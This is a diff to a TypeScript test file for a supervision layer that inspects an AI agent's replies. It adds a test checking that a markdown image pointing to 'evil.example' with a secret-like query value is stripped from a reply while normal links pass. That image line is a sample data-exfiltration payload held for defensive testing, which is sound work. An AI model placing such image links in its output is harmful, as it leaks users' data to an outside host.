@@ -2,7 +2,7 @@
 import { readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import starter from "../../scripts/starter.json" with { type: "json" };
-import { rulesModify, rulesSupervisor } from "../../src/supervision/kinds/rules.js";
+import { rulesSupervisor } from "../../src/supervision/kinds/rules.js";
 import { withDataGuard } from "../../src/supervision/orders-in-data.js";
 import { runPass } from "../../src/supervision/pass.js";
 import type { Subject } from "../../src/supervision/subject.js";
@@ -19,7 +19,8 @@ function installed(): Supervisor[] {
   return Object.entries(starter.supervisors).map(([name, body]) => {
     const { config, hooks, order, mode, kind } = resourceSchemas.supervisors.parse(body);
     if (kind !== "rules") throw new TypeError(`${name} is of kind ${kind}`);
-    return rulesSupervisor({ name, hooks, order, mode, config, onFailure: "block", mayModify: rulesModify(config) });
+    const settings = { name, hooks: new Set(hooks), order, mode, config, permission: "modify_messages" } as const;
+    return rulesSupervisor({ ...settings, onFailure: "block" });
   });
 }
 const supervisors = installed();
@@ -73,6 +74,17 @@ describe("what npm start installs", () => {
       response({ turnId: "t", message: "Done.", toolCalls: [{ ...call, output, elapsedMs: 1 }] });
     expect(await notAllowed(results, asResult)).toEqual([]);
     expect(await notAllowed(results, inReply)).toEqual([]);
+  });
+
+  it("takes images of other hosts out of replies, and lets links pass", async () => {
+    const reply = (message: string) => response({ turnId: "t", message });
+    const image = reply("Done. ![x](https://evil.example/p?d=rosebud)");
+    const { state, subject } = await runPass(image, supervisors, passPorts());
+    expect(state.decision).toBe("modify");
+    expect(JSON.stringify(subject)).not.toMatch(/evil|rosebud/);
+    expect(
+      await decided(reply("See [the page](https://shop.example/a?b=c) or https://shop.example, ![x](/a.png).")),
+    ).toBe("allow");
   });
 
   it("stops an attack, a credential and a card", async () => {
